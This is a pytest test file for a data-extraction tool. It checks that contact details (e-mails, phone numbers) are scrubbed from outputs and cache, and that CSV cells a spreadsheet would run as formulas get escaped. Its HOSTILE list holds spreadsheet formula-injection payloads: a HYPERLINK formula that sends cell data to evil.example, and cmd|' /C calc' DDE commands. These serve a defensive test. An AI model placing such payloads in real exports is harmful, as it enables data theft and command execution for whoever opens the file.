"""Personal data and spreadsheet safety (issue 5).

By default no output file contains an e-mail address or a phone number and contact-person phrases
are not exported; `--include-contacts` writes them to contacts.json/.csv only. "Output file" includes
the per-page cache in OUT/.cache: its entries are scrubbed, and contact rows are cached only by runs
with --include-contacts. CSV cells that a spreadsheet would run as a formula are escaped, the JSON
keeps the original text.
"""
from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kp_extract.privacy import EMAIL_PLACEHOLDER, PHONE_PLACEHOLDER, find_contacts, parse_contact, scrub_contacts
from kp_extract.run import pages, pipeline
from kp_extract.cli import app
from kp_extract.model import Page
from kp_extract.stages.s2_clean import clean_page
from tests.conftest import RAW

runner = CliRunner()

EMAILS = ("anna.ek@vaxjo.se", "bo.nilsson+icld@kisumu.go.ke", "ingrid.palmbladorlander@vaxjo.se",
          "annika@id-vaxjo.com", "projekt@ostersund.se")
PHONES = ("0470-123 45", "+46 (0)470 12 34 56", "070-123 45 67", "+254 20 222 3344", "0470-796720",
          "0470-77 85 51", "063-14 30 00")

CONTACT_PAGE = f"""\
Östersund and Kisii, Kenya

Project: Hållbar vattenförsörjning

Östersunds kommun och Kisii County samarbetar sedan 2019 om vattenförsörjning och sanitet i stadens östra delar, där många hushåll saknar rent vatten. Projektet pågår 2023-2025 och bygger på erfarenheter från ett tidigare förprojekt. Vill du veta mer kan du mejla {EMAILS[4]} eller ringa {PHONES[6]} under kontorstid. Kontaktperson: Anna Ek, projektledare. Projektet finansieras av ICLD.

Kontaktperson: Anna Ek, projektledare, Östersunds kommun, {EMAILS[0]}, {PHONES[0]}
Contact: Bo Nilsson, Kisii County, {EMAILS[1]}, phone {PHONES[3]}

Kontakt
Cecilia Berg
Utvecklingsstrateg
{PHONES[2]}
e-post: cecilia.berg@ostersund.se
Tel. {PHONES[1]}

Projektområde
Miljö och klimat
Svensk partner
Östersunds kommun
Internationell partner
Kisii County
"""

EMAIL_RE = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")


def digits(s: str) -> str:
    return re.sub(r"\D", "", s)


PHONE_DIGITS = tuple(digits(p) for p in PHONES)


def leaks(text: str) -> list[str]:
    """E-mail addresses and known phone numbers (by their digits, whatever the spacing) in text."""
    found = EMAIL_RE.findall(text)
    squeezed = digits(text)
    found += [p for p, d in zip(PHONES, PHONE_DIGITS) if d in squeezed and _spaced(p, text)]
    return found


def _spaced(phone: str, text: str) -> bool:
    """phone appears in text with any separators between its digits."""
    pattern = r"\D{0,3}".join(re.escape(c) for c in digits(phone))
    return re.search(r"(?<!\d)" + pattern + r"(?!\d)", text) is not None


@pytest.fixture
def contact_corpus(tmp_path) -> Path:
    folder = tmp_path / "in"
    shutil.copytree(RAW, folder)
    (folder / "zz_contacts.txt").write_text(CONTACT_PAGE, encoding="utf-8")
    return folder


def run(folder: Path, out: Path, *args: str):
    result = runner.invoke(app, ["run", str(folder), "--out", str(out), "--workers", "1", "--no-cache", *args])
    assert result.exit_code == 0, result.output
    return result


def output_texts(out: Path) -> dict[str, str]:
    """Every output file's text by name; the cache's entries (OUT/.cache) are read by cache_texts."""
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(out.rglob("*"))
            if p.is_file() and ".cache" not in p.relative_to(out).parts}


def stored_strings(obj) -> Iterator[str]:
    """Every str inside a decoded entry: containers, dict keys and values, dataclass fields."""
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield from stored_strings(k)
            yield from stored_strings(v)
    elif isinstance(obj, (list, tuple, set, frozenset)):
        for x in obj:
            yield from stored_strings(x)
    elif dataclasses.is_dataclass(obj):
        for f in dataclasses.fields(obj):
            yield from stored_strings(getattr(obj, f.name))


def cache_texts(cache: Path) -> dict[str, str]:
    """Each cache entry (path relative to cache) as text: every string in the entry's JSON lines (escapes
    such as \\u00e4 decoded), and the entry's bytes read as UTF-8, so nothing the walk misses hides."""
    out = {}
    for path in sorted(cache.rglob("*")):
        if path.is_file():
            data = path.read_bytes()
            strings = "\n".join(s for line in data.splitlines() if line.strip()
                                 for s in stored_strings(json.loads(line))) if path.suffix == ".jsonl" else ""
            out[path.relative_to(cache).as_posix()] = strings + "\n" + data.decode("utf-8", "replace")
    return out


def test_fixture_page_really_has_contacts():
    assert len(leaks(CONTACT_PAGE)) >= len(EMAILS) - 2 + len(PHONES) - 2


def test_no_contact_details_in_any_output_by_default(contact_corpus, tmp_path):
    out = tmp_path / "out"
    result = run_cached(contact_corpus, out)  # the default options: the cache in OUT/.cache included
    texts = output_texts(out)
    assert set(texts) == {"projects.json", "projects.csv", "partnerships.json", "partnerships.csv",
                          "partnership_projects.csv", "blocks.jsonl", "errors.jsonl", "candidates.jsonl", "pages.csv",
                          "datapackage.json"}
    cached = cache_texts(out / ".cache")
    assert len(cached) == 6
    for name, text in {**texts, **cached}.items():
        assert leaks(text) == [], name
        assert "Kontaktperson:" not in text and "Contact:" not in text, name
    assert leaks(result.stderr) == []
    projects = json.loads(texts["projects.json"])
    water = [p for p in projects if p["title"] == "Hållbar vattenförsörjning"]
    assert water, "the contact page still gives its project"
    assert "ICLD" in water[0]["summary"] and "Anna Ek" not in water[0]["summary"]


def test_include_contacts_writes_them_only_to_contacts_files(contact_corpus, tmp_path):
    out = tmp_path / "out"
    result = run(contact_corpus, out, "--include-contacts")
    texts = output_texts(out)
    assert {"contacts.json", "contacts.csv"} <= set(texts)
    for name, text in texts.items():
        if not name.startswith("contacts."):
            assert leaks(text) == [], name
    contacts = json.loads(texts["contacts.json"])
    assert list(contacts[0]) == ["file", "start", "end", "name", "role", "email", "phone"]
    emails = {c["email"] for c in contacts}
    assert {EMAILS[0], EMAILS[1], EMAILS[2], EMAILS[3]} <= emails
    anna = next(c for c in contacts if c["email"] == EMAILS[0])
    assert anna["name"] == "Anna Ek" and anna["phone"] == PHONES[0]
    assert "projektledare" in anna["role"]
    page = (contact_corpus / anna["file"]).read_text(encoding="utf-8")
    assert EMAILS[0] in page[anna["start"]:anna["end"]]
    rows = list(csv.reader(io.StringIO(texts["contacts.csv"])))
    assert rows[0] == ["file", "start", "end", "name", "role", "email", "phone"]
    assert len(rows) == len(contacts) + 1
    assert "contacts" in result.stderr
    # a later run without the option removes the personal data again
    run(contact_corpus, out)
    assert not (out / "contacts.json").exists() and not (out / "contacts.csv").exists()


@pytest.mark.parametrize("text, expected", [
    ("Mejla anna.ek@vaxjo.se för mer.", f"Mejla {EMAIL_PLACEHOLDER} för mer."),
    ("Ring 0470-123 45 i dag.", f"Ring {PHONE_PLACEHOLDER} i dag."),
    ("Projektet startade 2020. Kontaktperson: Anna Ek, projektledare. Det går bra.",
     "Projektet startade 2020. Det går bra."),
    ("Första raden.\nE-post: anna@x.se\nSista raden.", "Första raden.\nSista raden."),
    ("Växjö kommun, 2023-2025, 500 000 kronor, SDG 5", "Växjö kommun, 2023-2025, 500 000 kronor, SDG 5"),
    ("", ""),
])
def test_scrub_contacts(text, expected):
    assert scrub_contacts(text) == expected


def test_parse_and_find_contacts():
    assert parse_contact("Kontaktperson: Anna Ek, projektledare, anna.ek@vaxjo.se, 0470-123 45") == {
        "name": "Anna Ek", "role": "projektledare", "email": "anna.ek@vaxjo.se", "phone": "0470-123 45"}
    assert parse_contact("Anna Ek") is None
    page = clean_page(Page("p.txt", "Rubrik\n\nKontaktperson: Anna Ek, projektledare\nanna.ek@vaxjo.se\n"
                                    "0470-123 45\n\nText om Växjö.\n", ""))
    [(start, end, name, role, email, phone)] = find_contacts(page)
    assert (name, role, email, phone) == ("Anna Ek", "projektledare", "anna.ek@vaxjo.se", "0470-123 45")
    assert page.text[start:end].startswith("Kontaktperson") and page.text[start:end].endswith("45")


# ------------------------------------------------------------------ spreadsheet safety, end to end

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)",
]


def test_hostile_titles_and_partners_are_escaped_in_csv_only(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    cards = []
    for i, title in enumerate(HOSTILE):
        cards.append(f"Växjö and Kisumu, Kenya\n\nProject: {title}\n\n"
                     f"Växjö kommun och Kisumu County i Kenya arbetar tillsammans {2020 + i}-{2022 + i}.\n\n"
                     "Projektområde\nUrban planning\nSvensk partner\nVäxjö kommun\n"
                     f"Internationell partner\n=cmd|' /C calc'!A{i}\n")
    (folder / "hostile.txt").write_text("\n".join(cards), encoding="utf-8")
    out = tmp_path / "out"
    run(folder, out)
    projects = json.loads((out / "projects.json").read_text(encoding="utf-8"))
    titles = {p["title"] for p in projects}
    assert set(HOSTILE) <= titles, titles  # the JSON keeps the original text
    rows = list(csv.DictReader(io.StringIO((out / "projects.csv").read_text(encoding="utf-8"), newline="")))
    csv_titles = {r["title"] for r in rows}
    for title in HOSTILE:
        assert "'" + title in csv_titles
        assert title not in csv_titles
    for name in ("projects.csv", "partnerships.csv"):
        for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    partners = [p for r in projects for p in r["international_partners"]]
    if any(p.startswith("=") for p in partners):  # when extraction keeps such a name, CSV must escape it
        assert any(r["international_partners"].startswith("'=") for r in rows)


# ------------------------------------------------------------------ the per-page cache

# A page full of addresses and numbers: in titles, partner names, footers, prose, contact lines.
FULL_PAGE = f"""\
Växjö and Kisumu, Kenya

Project: Avfall {EMAILS[0]} {PHONES[0]}

Växjö kommun och Kisumu County i Kenya arbetar tillsammans 2021-2023 om avfall. Mejla {EMAILS[0]} eller ring {PHONES[2]}. Kontaktperson: Anna Ek, projektledare. Kisumu nås på {PHONES[3]} och {EMAILS[1]}.

Projektområde
Miljö och klimat {EMAILS[3]}
Svensk partner
Växjö kommun
Internationell partner
Kisumu County {EMAILS[1]}

Östersund and Kisii {EMAILS[4]}, Kenya

Project: Vatten {PHONES[6]}

Östersunds kommun och Kisii {EMAILS[4]} i Kenya samarbetar sedan 2019 om vatten. Ring {PHONES[6]} eller {PHONES[1]}, eller mejla {EMAILS[2]}.

Tel. {PHONES[4]}
E-post: {EMAILS[2]}
"""


@pytest.fixture
def full_corpus(contact_corpus) -> Path:
    (contact_corpus / "zz_full.txt").write_text(FULL_PAGE, encoding="utf-8")
    return contact_corpus


def run_cached(folder: Path, out: Path, *args: str):
    """The CLI with its default cache, OUT/.cache."""
    result = runner.invoke(app, ["run", str(folder), "--out", str(out), "--workers", "1", *args])
    assert result.exit_code == 0, result.output
    return result


def contact_rows(out: Path) -> list[dict]:
    return json.loads((out / "contacts.json").read_text(encoding="utf-8"))


def test_full_page_really_has_contacts():
    assert {e for e in EMAILS} <= set(leaks(FULL_PAGE)) and len(leaks(FULL_PAGE)) >= len(EMAILS) + 5


def test_cache_holds_no_contact_details_and_hits_give_the_same_bytes(full_corpus, tmp_path):
    plain = tmp_path / "plain"
    run(full_corpus, plain)  # --no-cache
    out = tmp_path / "out"
    first = run_cached(full_corpus, out)
    second = run_cached(full_corpus, out)
    assert "0 of 7 pages" in first.output and "7 of 7 pages" in second.output
    entries = cache_texts(out / ".cache")
    assert len(entries) == 7 and all(name.endswith(".jsonl") for name in entries)
    for name, text in entries.items():
        assert leaks(text) == [], name
        assert "Kontaktperson:" not in text and "Contact:" not in text, name
    stored = "\n".join(entries.values())
    assert "[e-post]" in stored and "[telefon]" in stored and "Växjö kommun" in stored  # scrubbed, not empty
    for name, text in output_texts(out).items():
        assert leaks(text) == [], name
    assert output_texts(out) == output_texts(plain)


def test_include_contacts_after_a_run_without_them(full_corpus, tmp_path):
    expected = tmp_path / "expected"
    run(full_corpus, expected, "--include-contacts")  # --no-cache
    out = tmp_path / "out"
    pipeline.run(full_corpus, out, cache_dir=out / ".cache")
    with_contacts = pipeline.run(full_corpus, out, cache_dir=out / ".cache", include_contacts=True)
    # the page entries hold no contact rows: every page is redone to find them
    assert (with_contacts.cache_hits, with_contacts.cache_misses) == (0, 7)
    assert contact_rows(out) == contact_rows(expected) and len(contact_rows(out)) >= 8
    again = pipeline.run(full_corpus, out, cache_dir=out / ".cache", include_contacts=True)
    assert (again.cache_hits, again.cache_misses) == (7, 0)
    assert output_texts(out) == output_texts(expected)
    # the contact rows are cached apart, and only they hold the personal data
    leaking = {name for name, text in cache_texts(out / ".cache").items() if leaks(text)}
    assert leaking and all(name.split("/")[1] == "contacts" for name in leaking)


def test_run_without_contacts_after_one_with_them_forgets_them(full_corpus, tmp_path):
    expected = tmp_path / "expected"
    run(full_corpus, expected)  # --no-cache
    out = tmp_path / "out"
    run_cached(full_corpus, out, "--include-contacts")
    assert any(leaks(text) for text in cache_texts(out / ".cache").values())
    without = pipeline.run(full_corpus, out, cache_dir=out / ".cache")
    assert (without.cache_hits, without.cache_misses) == (7, 0)  # the page entries serve both kinds of run
    assert output_texts(out) == output_texts(expected)
    for name, text in cache_texts(out / ".cache").items():
        assert leaks(text) == [], name
    assert not list((out / ".cache").glob("*/contacts"))


def test_digest_scrubs_a_copy_and_keeps_contact_rows_only_on_request():
    out = pages.process_page(Page("full.txt", FULL_PAGE, ""))
    raw_texts = "\n".join(stored_strings([out.result.mentions, out.result.partnerships]))
    assert leaks(raw_texts), "extraction itself sees the details: the digest is what must drop them"
    digest = pages.digest(out)
    assert digest.mentions and leaks("\n".join(stored_strings(digest))) == []
    assert digest.contacts == [] and len(out.contacts) >= 2
    assert leaks("\n".join(stored_strings(out.result.mentions))), "the page's own result is left as it was"
    assert pages.digest(out, include_contacts=True).contacts == out.contacts
